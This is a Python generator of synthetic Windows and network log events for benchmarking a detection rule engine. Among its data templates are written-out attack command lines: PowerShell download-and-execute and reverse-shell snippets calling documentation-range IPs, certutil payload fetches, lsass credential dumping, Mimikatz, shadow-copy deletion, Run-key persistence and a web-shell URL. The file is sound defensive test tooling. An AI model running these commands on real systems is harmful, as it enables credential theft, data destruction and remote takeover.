"""Events to measure the rule engine with: seeded, in the shapes of real agents, in our own words.

Windows events are lines of about 1 KB as a flat shipper (NXLog, evtx_dump's flat form) or Winlogbeat writes them. A
fifth looks like an attack; of the long texts (command lines, paths, registry keys, names, script blocks) a bit more
than half never comes again, as on real machines.
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Any, Literal

import orjson

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

ATTACKS = 0.20
DISTINCT = 0.56
_POOL = 4000
"""So many texts repeat."""
_HEX = "0123456789ABCDEF"

_SYSTEM32 = "C:\\Windows\\System32\\"
_PROGRAMS = (
    (_SYSTEM32 + "svchost.exe", "-k netsvcs -p -s {w}"),
    (_SYSTEM32 + "conhost.exe", "0xffffffff -ForceV1 {n}"),
    (_SYSTEM32 + "taskhostw.exe", "-Refresh {w} {n}"),
    (_SYSTEM32 + "backgroundTaskHost.exe", "-ServerName:App.{w}.mca"),
    (_SYSTEM32 + "SearchProtocolHost.exe", "Global\\UsGthrFltPipe{n} {w}"),
    (_SYSTEM32 + "RuntimeBroker.exe", "-Embedding {w}"),
    (_SYSTEM32 + "cmd.exe", "/c call D:\\tasks\\{w}\\{w}.cmd {n}"),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '/n "D:\\van-ban\\{w}\\cong-van-{n}.docx"',
    ),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"D:\\ke-hoach\\{w}-{n}.xlsx"'),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "--type=renderer --lang=vi --field-trial-handle={n},{w}",
    ),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", '-contentproc --channel="{n}.{w}" -isForBrowser'),
    ("C:\\Program Files\\7-Zip\\7zG.exe", 'x -o"D:\\luu-tru\\{w}" -an -ai#7zMap{n}'),
    ("C:\\Program Files (x86)\\Zalo\\Zalo.exe", "--type=utility --service={w} {n}"),
    ("D:\\mot-cua\\bin\\dichvu.exe", "--ho-so {w}-{n} --don-vi {w}"),
)
_ATTACKS = (
    (_SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", "-NoP -NonI -W Hidden -Exec Bypass -Enc {b}"),
    (_SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", "IEX (New-Object Net.WebClient).DownloadString('http://{i}/{w}.ps1')"),
    (_SYSTEM32 + "certutil.exe", "-urlcache -split -f http://{i}/{w}.exe C:\\Users\\Public\\{w}.exe"),
    (_SYSTEM32 + "rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Windows\\Temp\\{w}.dmp full"),
    (_SYSTEM32 + "vssadmin.exe", "delete shadows /all /quiet"),
    (_SYSTEM32 + "schtasks.exe", "/create /sc onlogon /tn {w} /tr C:\\Users\\Public\\{w}.exe /ru SYSTEM"),
    (_SYSTEM32 + "reg.exe", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {w} /d C:\\Users\\Public\\{w}.exe"),
    (_SYSTEM32 + "mshta.exe", "http://{i}/{w}.hta"),
    (_SYSTEM32 + "wbem\\WMIC.exe", "/node:{i} process call create \"cmd.exe /c {w}\""),
    (_SYSTEM32 + "net.exe", "user {w} P@ss{n} /add"),
    (_SYSTEM32 + "whoami.exe", "/all"),
    (_SYSTEM32 + "cmd.exe", "/c copy \\\\{i}\\share\\{w}.exe %TEMP%\\{w}.exe && %TEMP%\\{w}.exe"),
    ("C:\\Users\\Public\\{w}.exe", "-accepteula -ma lsass.exe {w}.dmp"),
    ("C:\\Windows\\Temp\\{w}.exe", "{b}"),
)  # fmt: skip
_SCRIPTS = (
    "function Get-{w} {{ param($Path) Get-ChildItem -Path $Path -Filter *{n}.log | Sort-Object Length }}",
    "$ketqua = Import-Csv D:\\bao-cao\\{w}-{n}.csv; $ketqua | Export-Csv D:\\bao-cao\\{w}.csv -NoTypeInformation",
    "Get-Service -Name {w}* | Where-Object Status -eq 'Running' | Format-Table Name, Status # {n}",
)
_ATTACK_SCRIPTS = (
    "$c = New-Object System.Net.Sockets.TCPClient('{i}',{n}); $s = $c.GetStream(); iex $s # {w}",
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String('{b}')) # {w}",
    "Invoke-Mimikatz -DumpCreds -ComputerName {w}{n}",
)
_KEYS = (
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{n}\\{w}",
    "HKU\\S-1-5-21-{n}\\Software\\Microsoft\\Office\\16.0\\Word\\File MRU\\{w}",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SessionInfo\\{n}\\{w}",
)
_ATTACK_KEYS = (
    "HKU\\S-1-5-21-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{w}",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
    "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Notification Packages\\{w}",
)
_FILES = (
    "C:\\Users\\{w}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_{n}",
    "D:\\van-ban\\{w}\\{n}.docx",
    "C:\\Windows\\Prefetch\\{w}-{n}.pf",
)
_ATTACK_FILES = (
    "C:\\Users\\{w}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{w}.vbs",
    "C:\\Windows\\Temp\\{w}{n}.dmp",
    "C:\\inetpub\\wwwroot\\uploads\\{w}.aspx",
)
_LIBRARIES = (_SYSTEM32 + "{w}.dll", "C:\\Program Files\\{w}\\{w}{n}.dll", _SYSTEM32 + "ntdll.dll")
_ATTACK_LIBRARIES = ("C:\\Users\\Public\\{w}.dll", "C:\\Windows\\Temp\\version.dll", "D:\\{w}\\dbghelp.dll")
_DOMAINS = ("{w}.danang.example", "cdn{n}.{w}.example", "{w}.microsoft.example")
_ATTACK_DOMAINS = ("{w}{n}.duckdns.org", "{b}.dns.{w}.example", "pool.minexmr.com")

Shape = Literal["flat", "beat"]


class _Texts:
    """Texts made of templates; some come again, the others never."""

    def __init__(self, dice: random.Random) -> None:
        self._dice = dice
        self._pools: dict[str, list[str]] = {}
        self.words = [
            "".join(dice.choices("abcdeghiklmnopqrstuvxy", k=dice.randint(4, 9))) for _ in range(600)
        ]

    def make(self, template: str) -> str:
        """Return a text of a template, new or one of its pool."""
        if "{" not in template:
            return template
        if self._dice.random() < DISTINCT:
            return self._new(template)
        pool = self._pools.setdefault(template, [])
        if len(pool) < _POOL // 40:
            pool.append(self._new(template))
        return self._dice.choice(pool)

    def _new(self, template: str) -> str:
        dice = self._dice
        return template.format(
            w=dice.choice(self.words) + str(dice.randrange(100)),
            n=dice.randrange(10**9),
            i=f"203.0.113.{dice.randrange(256)}",
            b="".join(dice.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop0123456789", k=60)),
        )


class _Windows:
    """Makes Windows events, one kind a method."""

    def __init__(self, seed: int) -> None:
        self._dice = random.Random(seed)
        self._texts = _Texts(self._dice)
        self._number = 0
        self._kinds: tuple[Callable[[bool], tuple[str, str, int, dict[str, Any]]], ...] = (
            self._process, self._network, self._library, self._file, self._registry, self._name,
            self._access, self._script, self._logon, self._created, self._pipe,
        )  # fmt: skip
        self._weights = (32, 11, 13, 12, 12, 5, 4, 3, 4, 3, 1)

    def event(self) -> tuple[str, str, int, dict[str, Any], dict[str, Any]]:
        """Return channel, provider, event id, system part and own fields of the next event."""
        dice = self._dice
        self._number += 1
        attack = dice.random() < ATTACKS
        channel, provider, code, data = dice.choices(self._kinds, self._weights)[0](attack)
        second = self._number // 400
        clock = f"{second // 3600 % 24:02}:{second // 60 % 60:02}:{second % 60:02}.{self._number % 1000:03}"
        system = {
            "SystemTime": f"2026-11-16T{clock}Z",
            "Computer": f"pc{dice.randrange(300):03}.danang.example",
            "EventRecordID": 1_000_000 + self._number,
            "Level": 4,
            "Task": code,
            "Keywords": "0x8000000000000000",
            "ExecutionProcessID": dice.randrange(400, 9000, 4),
            "ThreadID": dice.randrange(400, 9000, 4),
        }
        if provider.endswith("Sysmon"):
            data = {"RuleName": "-", "UtcTime": f"2026-11-16 {clock}", **data}
        return channel, provider, code, system, data

    def _guid(self) -> str:
        text = "".join(self._dice.choices(_HEX, k=24))
        return (
            "{5A1C"
            + text[:4]
            + "-"
            + text[4:8]
            + "-"
            + text[8:12]
            + "-"
            + text[12:16]
            + "-"
            + text[16:]
            + "00000000}"
        )

    def _pick(self, attack: bool, good: tuple[str, ...], bad: tuple[str, ...]) -> str:
        return self._texts.make(self._dice.choice(bad if attack else good))

    def _started(self, attack: bool) -> tuple[str, str]:
        image, arguments = self._dice.choice(_ATTACKS if attack else _PROGRAMS)
        image = self._texts.make(image)
        return image, f'"{image}" {self._texts.make(arguments)}'

    def _user(self) -> str:
        return f"DANANG\\{self._texts.words[self._dice.randrange(200)]}"

    def _sysmon(self, code: int, data: dict[str, Any]) -> tuple[str, str, int, dict[str, Any]]:
        return "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", code, data

    def _process(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, line = self._started(attack)
        parent, parent_line = self._started(False)
        digest = "".join(self._dice.choices(_HEX, k=128))
        return self._sysmon(1, {
            "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4), "Image": image,
            "FileVersion": "10.0.19041.1", "Description": "Program of the day", "Product": "Office work",
            "Company": "Microsoft Corporation", "OriginalFileName": image.rpartition("\\")[2],
            "CommandLine": line, "CurrentDirectory": "C:\\Windows\\system32\\", "User": self._user(),
            "LogonGuid": self._guid(), "LogonId": hex(self._dice.randrange(10**6)), "TerminalSessionId": 1,
            "IntegrityLevel": "Medium",
            "Hashes": f"MD5={digest[:32]},SHA256={digest[32:96]},IMPHASH={digest[96:]}",
            "ParentProcessGuid": self._guid(), "ParentProcessId": self._dice.randrange(400, 20000, 4),
            "ParentImage": parent, "ParentCommandLine": parent_line, "ParentUser": self._user(),
        })  # fmt: skip

    def _network(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, _ = self._started(attack)
        return self._sysmon(3, {
            "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4), "Image": image,
            "User": self._user(), "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
            "SourceIp": f"10.12.{self._dice.randrange(20)}.{self._dice.randrange(256)}",
            "SourceHostname": f"pc{self._dice.randrange(300)}.danang.example",
            "SourcePort": self._dice.randrange(49152, 65536), "SourcePortName": "-", "DestinationIsIpv6": "false",
            "DestinationIp": f"203.0.113.{self._dice.randrange(256)}",
            "DestinationHostname": self._pick(attack, _DOMAINS, _ATTACK_DOMAINS),
            "DestinationPort": self._dice.choice((443, 443, 80, 53, 445, 8443)), "DestinationPortName": "https",
        })  # fmt: skip

    def _library(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, _ = self._started(attack)
        digest = "".join(self._dice.choices(_HEX, k=128))
        return self._sysmon(7, {
            "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4), "Image": image,
            "ImageLoaded": self._pick(attack, _LIBRARIES, _ATTACK_LIBRARIES), "FileVersion": "10.0.19041.1",
            "Description": "Library of the day", "Product": "Office work", "Company": "Microsoft Corporation",
            "OriginalFileName": "-", "Hashes": f"MD5={digest[:32]},SHA256={digest[32:96]},IMPHASH={digest[96:]}",
            "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": self._user(),
        })  # fmt: skip

    def _file(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, _ = self._started(attack)
        return self._sysmon(11, {
            "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4), "Image": image,
            "TargetFilename": self._pick(attack, _FILES, _ATTACK_FILES),
            "CreationUtcTime": "2026-11-16 01:02:03.004", "User": self._user(),
        })  # fmt: skip

    def _registry(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, line = self._started(attack)
        return self._sysmon(13, {
            "EventType": "SetValue", "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4),
            "Image": image, "TargetObject": self._pick(attack, _KEYS, _ATTACK_KEYS), "Details": line,
            "User": self._user(),
        })  # fmt: skip

    def _name(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, _ = self._started(attack)
        return self._sysmon(22, {
            "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4),
            "QueryName": self._pick(attack, _DOMAINS, _ATTACK_DOMAINS), "QueryStatus": "0",
            "QueryResults": f"::ffff:203.0.113.{self._dice.randrange(256)};", "Image": image, "User": self._user(),
        })  # fmt: skip

    def _access(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, _ = self._started(attack)
        target = _SYSTEM32 + "lsass.exe" if attack else self._started(False)[0]
        return self._sysmon(10, {
            "SourceProcessGUID": self._guid(), "SourceProcessId": self._dice.randrange(400, 20000, 4),
            "SourceThreadId": self._dice.randrange(9000), "SourceImage": image, "TargetProcessGUID": self._guid(),
            "TargetProcessId": self._dice.randrange(400, 20000, 4), "TargetImage": target,
            "GrantedAccess": "0x1410" if attack else "0x1000",
            "CallTrace": f"C:\\Windows\\SYSTEM32\\ntdll.dll+{self._dice.randrange(10**5):x}|C:\\Windows\\System32\\KERNELBASE.dll+{self._dice.randrange(10**5):x}",
            "SourceUser": self._user(), "TargetUser": "NT AUTHORITY\\SYSTEM",
        })  # fmt: skip

    def _pipe(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, _ = self._started(attack)
        return self._sysmon(17, {
            "EventType": "CreatePipe", "ProcessGuid": self._guid(), "ProcessId": self._dice.randrange(400, 20000, 4),
            "PipeName": self._texts.make("\\msagent_{n}" if attack else "\\chrome.{n}.{w}"), "Image": image,
            "User": self._user(),
        })  # fmt: skip

    def _script(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        block = "\n".join(
            self._pick(attack, _SCRIPTS, _ATTACK_SCRIPTS) for _ in range(self._dice.randint(2, 12))
        )
        return "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, {
            "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": block, "ScriptBlockId": self._guid().lower(),
            "Path": "",
        }  # fmt: skip

    def _logon(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        return "Security", "Microsoft-Windows-Security-Auditing", 4625 if attack else 4624, {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": "PC01$", "SubjectDomainName": "DANANG",
            "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-1-2-3-1001",
            "TargetUserName": self._texts.words[self._dice.randrange(200)], "TargetDomainName": "DANANG",
            "TargetLogonId": hex(self._dice.randrange(10**8)), "LogonType": self._dice.choice((2, 3, 3, 3, 10)),
            "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "-",
            "LogonGuid": self._guid(), "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": 0,
            "ProcessId": "0x0", "ProcessName": "-", "IpAddress": f"10.12.0.{self._dice.randrange(256)}",
            "IpPort": str(self._dice.randrange(49152, 65536)), "ImpersonationLevel": "%%1833",
        }  # fmt: skip

    def _created(self, attack: bool) -> tuple[str, str, int, dict[str, Any]]:
        image, line = self._started(attack)
        return "Security", "Microsoft-Windows-Security-Auditing", 4688, {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": "PC01$", "SubjectDomainName": "DANANG",
            "SubjectLogonId": "0x3e7", "NewProcessId": hex(self._dice.randrange(400, 20000, 4)),
            "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(self._dice.randrange(9000)),
            "CommandLine": line, "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
            "TargetLogonId": "0x0", "ParentProcessName": self._started(False)[0],
            "MandatoryLabel": "S-1-16-8192",
        }  # fmt: skip


def windows(count: int, seed: int = 4, shape: Shape = "flat") -> Iterator[bytes]:
    """Yield lines of Windows events."""
    source = _Windows(seed)
    for _ in range(count):
        channel, provider, code, system, data = source.event()
        if shape == "flat":
            head = {"Channel": channel, "Provider_Name": provider, "EventID": code}
            yield orjson.dumps({**head, **system, **data})
            continue
        texts = {name: str(value) for name, value in data.items()}
        yield orjson.dumps({
            "@timestamp": system["SystemTime"],
            "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.17.0"},
            "agent": {"type": "winlogbeat", "version": "8.17.0", "name": system["Computer"]},
            "ecs": {"version": "8.0.0"},
            "event": {"kind": "event", "code": str(code), "provider": provider},
            "host": {"name": system["Computer"]},
            "log": {"level": "information"},
            "winlog": {
                "channel": channel, "provider_name": provider, "event_id": str(code), "api": "wineventlog",
                "computer_name": system["Computer"], "record_id": system["EventRecordID"], "event_data": texts,
                "process": {"pid": system["ExecutionProcessID"], "thread": {"id": system["ThreadID"]}},
            },
        })  # fmt: skip


def quiet(count: int) -> Iterator[bytes]:
    """Yield Windows events of a channel that no rule reads: what an event costs that matches nothing."""
    for number in range(count):
        yield orjson.dumps({
            "Channel": "Microsoft-Windows-Citysoc-Quiet/Operational", "Provider_Name": "Citysoc-Quiet",
            "EventID": 7, "SystemTime": f"2026-11-16T01:{number // 60 % 60:02}:{number % 60:02}.000Z",
            "Computer": "pc001.danang.example", "EventRecordID": number,
            **{f"Field{place}": f"value {place} of record {number} says nothing to anyone" for place in range(14)},
        })  # fmt: skip


NETWORK = ("fortigate", "suricata", "dns", "proxy")


def network(kind: str, count: int, seed: int = 4) -> Iterator[bytes]:
    """Yield lines of one kind of network device: FortiGate, EVE alerts and flows, EVE DNS, a proxy's access log."""
    dice = random.Random(seed)
    texts = _Texts(dice)
    for number in range(count):
        attack = dice.random() < ATTACKS
        clock = f"{number // 3600 % 24:02}:{number // 60 % 60:02}:{number % 60:02}"
        inside, outside = (
            f"10.12.{dice.randrange(20)}.{dice.randrange(256)}",
            f"203.0.113.{dice.randrange(256)}",
        )
        name = texts.make(dice.choice(_ATTACK_DOMAINS if attack else _DOMAINS))
        path = texts.make("/{w}/shell.php?cmd=whoami+{n}" if attack else "/{w}/tin-tuc-{n}.html")
        if kind == "fortigate":
            yield (
                f'date=2026-11-16 time={clock} devname="FG-{number % 9}" devid="FGT60F{number % 9:07}" logid="0000000013" '
                f'type="traffic" subtype="forward" level="notice" vd="root" srcip={inside} srcport={dice.randrange(65536)} '
                f'srcintf="lan" dstip={outside} dstport={dice.choice((443, 80, 53, 22, 3389))} dstintf="wan1" policyid=7 '
                f'sessionid={number} proto=6 action="{"deny" if attack else "accept"}" service="HTTPS" hostname="{name}" '
                f'trandisp="snat" duration={number % 300} sentbyte={dice.randrange(10**6)} rcvdbyte={dice.randrange(10**6)} '
                f'sentpkt=12 rcvdpkt=14 appcat="unscanned"'
            ).encode()
        elif kind == "proxy":
            agent = (
                "sqlmap/1.8"
                if attack
                else "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/140.0"
            )
            yield f'{outside} - - [16/Nov/2026:{clock} +0700] "GET {path} HTTP/1.1" 200 {number % 9999} "https://{name}/" "{agent}"'.encode()
        else:
            dns = kind == "dns"
            event: dict[str, Any] = {
                "timestamp": f"2026-11-16T{clock}.000000+0700", "flow_id": number, "in_iface": "eth0",
                "event_type": "dns" if dns else "alert", "src_ip": inside, "src_port": 50000, "dest_ip": outside,
                "dest_port": 53 if dns else 443, "proto": "UDP" if dns else "TCP",
            }  # fmt: skip
            if dns:
                event["dns"] = {
                    "type": "query",
                    "id": number % 65536,
                    "rrname": name,
                    "rrtype": "A",
                    "tx_id": 0,
                }
            else:
                event["alert"] = {
                    "action": "allowed", "gid": 1, "signature_id": 2_000_000 + number % 500, "rev": 3,
                    "signature": f"Local {texts.words[number % 500]} activity", "category": "Misc activity", "severity": 2,
                }  # fmt: skip
                event["http"] = {
                    "hostname": name,
                    "url": path,
                    "http_method": "GET",
                    "status": 200,
                    "length": 10,
                }
            yield orjson.dumps(event)
